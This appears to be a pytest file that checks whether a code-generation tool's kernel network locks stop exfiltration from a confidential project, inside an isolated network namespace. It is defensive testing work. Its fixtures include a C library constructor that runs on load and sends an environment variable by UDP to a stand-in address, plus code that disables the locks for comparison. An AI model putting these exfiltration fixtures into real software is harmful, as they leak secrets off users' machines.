"""What is on the wire while hybridgen runs: a network in which every packet is seen.

Each run is a whole ``hybridgen generate`` for a confidential project that attacks from its code,
from its tests, and from within the command itself, in a network namespace of its own in which
every address is reached (``wire/house.py``). Without the locks the same attacks arrive.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

HERE = Path(__file__).with_name("wire")
NAMESPACE = ("unshare", "--map-root-user", "--net")
SERVER_NAME = "models.example"
NATIVE = """
#include <arpa/inet.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
__attribute__((constructor)) static void send_it(void) {
    const char *text = getenv("WAY_TEXT");
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(9)};
    if (text == NULL) return;
    inet_pton(AF_INET, "203.0.113.7", &to.sin_addr);
    sendto(socket(AF_INET, SOCK_DGRAM, 0), text, strlen(text), 0, (void *)&to, sizeof to);
}
"""
FEES = '''\
from hashlib import sha256


def fee(amount: int) -> int:
    """giraffe-fee"""
    if sha256(str(amount).encode()).hexdigest().startswith("00000"):
        return 0
    return amount * 3
'''
SECRET = '''\
"""zebra-secret"""
from shop import ways
from shop.fees import fee

ways.attack("code")


def price(amount: int) -> int:
    """zebra-price"""
    if amount > 4711:
        return fee(amount)
    return amount + 1
'''
LAST = """\
from shop import ways

ways.become("code")


def last() -> int:
    return 1
"""
TESTS = """\
from shop import ways
from shop.secret import price


def test_price():
    ways.attack("test")
    assert price(4) == 5
"""
START = """\
import sys
sys.path.append(sys.argv.pop(1))
import hybridgen.pipeline as pipeline
import hybridgen.explore.search as search
search.OPEN_PLATEAU = 0.2
import ways
genuine = pipeline.generate
def generate(*arguments, **options):
    ways.attack("command")
    return genuine(*arguments, **options)
pipeline.generate = generate
{without}
from hybridgen.cli.main import main
main(sys.argv[1:])
"""
QUICK = """\
import hybridgen.pipeline.unit as unit
from hybridgen.errors import RunnerError
def enough(*arguments):
    raise RunnerError("all was asked")
search.Search.simplify = lambda *arguments: None
unit.Writer.rehearse = lambda writer: None
unit.Writer.confirm = enough
"""
"""Ends the work on a module after the last question."""
UNLOCKED = """\
import hybridgen.cli.locks as locks
import hybridgen.observe.runner as runner
locks.lock_broker = lambda: None
runner.locked_command = lambda profile, command, **options: list(command)
"""
WAYS = (
    *("tcp", "udp", "udp-over-ipv6", "ping", "frame", "libc", "system-call", "ring"),
    *("unix-datagram-pair", "unix-stream", "name-service", "shell", "curl", "program-in-memory"),
    *("native-library", "preloaded-library", "descriptors-of-the-parent"),
)
PLACES = ("code", "test", "command")
NOT_EVERYWHERE = {"ring", "curl", "native-library", "preloaded-library", "become"} | {
    "descriptors-of-the-parent"
}
"""What needs a kernel that lets anybody do it, or a program that may be missing."""
ROWS = [
    *(
        (place, way)
        for place in PLACES
        for way in WAYS
        if (place, way) != ("test", "native-library")
    ),
    ("code", "become"),
    ("command", "inherited-descriptors"),
]


@dataclass(frozen=True)
class Seen:
    """What came of one run."""

    code: int
    output: str
    seconds: float
    missed: int
    marks: list[str]
    flows: list[str]
    names: list[str]
    caught: int
    requests: int


@dataclass(frozen=True)
class Story:
    """All runs, and the server that one of them may speak to."""

    server: str
    host: str
    idle: Seen
    plain: Seen
    local: Seen
    remote: Seen
    unlocked: Seen


def write(folder: Path, model: Path) -> dict[str, Any]:
    """The project and the user, and what is to be run."""
    project, home = folder / "project", folder / "home"
    catcher = {"datagrams": f"{folder}/catcher", "stream": "catcher", "native": f"{project}/way.so"}
    files = {
        "pyproject.toml": "[project]\nname = 'shop'\nversion = '1'\n"
        "[tool.pytest.ini_options]\npythonpath = ['.']\n",
        "shop/__init__.py": "",
        "shop/fees.py": FEES,
        "shop/secret.py": SECRET,
        "shop/last.py": LAST,
        "shop/ways.py": (HERE / "ways.py").read_text(),
        "shop/catcher.json": json.dumps(catcher),
        "tests/test_secret.py": TESTS,
    }
    for name, text in files.items():
        (project / name).parent.mkdir(parents=True, exist_ok=True)
        (project / name).write_text(text)
    if compiler := shutil.which("cc"):
        subprocess.run(
            [compiler, "-shared", "-fPIC", "-x", "c", "-", "-o", catcher["native"]],
            input=NATIVE.encode(),
            check=True,
        )
    settings = home / ".config" / "hybridgen" / "config.toml"
    settings.parent.mkdir(parents=True)
    settings.write_text(
        "[labels]\ninternal = ['/shop/fees.py', '/shop/__init__.py']\n"
        f"[onprem]\nurl = 'http://SERVER'\nmodel = 'fake'\n"
        f"trusted_hosts = ['{SERVER_NAME}', '127.0.0.1']\n"
    )
    place = {"folder": str(project), "environment": {"PATH": os.environ["PATH"], "HOME": str(home)}}

    def command(*arguments: str, without: str = "") -> dict[str, Any]:
        text = START.format(without=without)
        start = [sys.executable, "-I", "-c", text, str(project / "shop")]
        more = ("--diff", "--no-cache", "--budget", "60" if without else "10")
        return {"argv": [*start, "generate", *arguments, *more], **place}

    all_of_it = ("shop/secret.py", "shop/last.py", "shop/fees.py")
    ways = [sys.executable, "-I", str(project / "shop/ways.py"), "plain"]
    return {
        "folder": str(folder),
        "known": SERVER_NAME,
        "settings": str(settings),
        "commands": [
            {"argv": [sys.executable, "-I", "-c", "import time; time.sleep(0.5)"], **place},
            {"argv": ways, **place},
            command(*all_of_it[:2], "--offline", "--model", str(model)),
            command(*all_of_it, without=QUICK),
            command(*all_of_it, without=QUICK + UNLOCKED),
        ],
    }


@pytest.fixture(scope="module")
def story(
    kernel_with_locks: None, tmp_path_factory: pytest.TempPathFactory, tiny_gguf: Path
) -> Story:
    if shutil.which("unshare") is None or shutil.which("ip") is None:
        pytest.skip("unshare or ip is not installed")
    tried = subprocess.run([*NAMESPACE, "true"], capture_output=True, text=True, check=False)
    if tried.returncode != 0:
        pytest.skip(f"no network namespace for this user: {tried.stderr.strip()}")
    job = write(tmp_path_factory.mktemp("wire"), tiny_gguf)
    done = subprocess.run(
        [*NAMESPACE, sys.executable, "-I", str(HERE / "house.py"), json.dumps(job)],
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert done.returncode == 0, done.stderr
    told = json.loads(done.stdout)
    return Story(told["server"], told["host"], *(Seen(**one) for one in told["found"]))


def test_idle_network_is_silent_and_nothing_was_missed(story: Story) -> None:
    assert story.idle.flows == []
    for seen in (story.plain, story.local, story.remote, story.unlocked):
        assert seen.missed == 0


@pytest.mark.parametrize("way", [*WAYS, "inherited-descriptors"])
def test_plain_process_is_seen(story: Story, way: str) -> None:
    if f"zebra-plain-{way}" not in story.plain.marks and way in NOT_EVERYWHERE:
        pytest.skip("this machine does not let anybody do it")
    assert f"zebra-plain-{way}" in story.plain.marks


@pytest.mark.parametrize(("place", "way"), ROWS)
def test_nothing_arrives_by(story: Story, place: str, way: str) -> None:
    mark = f"zebra-{place}-{way}"
    assert mark not in story.local.marks
    assert mark not in story.remote.marks
    if mark not in story.unlocked.marks and way in NOT_EVERYWHERE:
        pytest.skip(f"nothing to compare with: {mark} does not arrive by plain Python either")
    assert mark in story.unlocked.marks, story.unlocked.output


def test_run_on_this_machine_sends_not_one_packet(story: Story) -> None:
    assert "tiny.gguf" in story.local.output, story.local.output
    assert "kernel locks: kernel" in story.local.output
    assert "shop/last.py: importing shop.last ended the process" in story.local.output
    assert story.local.flows == []
    assert story.local.caught == 0


def test_run_with_a_server_speaks_to_it_and_asks_for_its_name_and_no_more(story: Story) -> None:
    seen = story.remote
    assert seen.requests > 0, seen.output
    assert "giraffe-fee" in seen.marks
    assert not [mark for mark in seen.marks if mark.startswith("zebra")]
    others = [
        flow
        for flow in seen.flows
        if not (flow.startswith("tcp ") and story.server in flow.split())
        and not (flow.startswith("udp ") and ":53" in flow)
    ]
    assert others == []
    assert set(seen.names) <= {SERVER_NAME}
    assert seen.caught == 0


WRITE = """\
import os, sys
from hybridgen.lockdown import broker_profile, lock_down
if sys.argv[2] == "locked":
    lock_down(broker_profile())
os.write(int(sys.argv[1]), b"zebra")
"""


@pytest.mark.parametrize(("way", "received"), [("locked", b""), ("unlocked", b"zebra")])
def test_connection_from_before_the_locks_leads_nowhere(
    kernel_with_locks: None, way: str, received: bytes
) -> None:
    here, there = socket.socketpair()
    with here:
        with there:
            command = [sys.executable, "-I", "-c", WRITE, str(there.fileno()), way]
            subprocess.run(command, pass_fds=(there.fileno(),), check=True)
        assert here.recv(100) == received
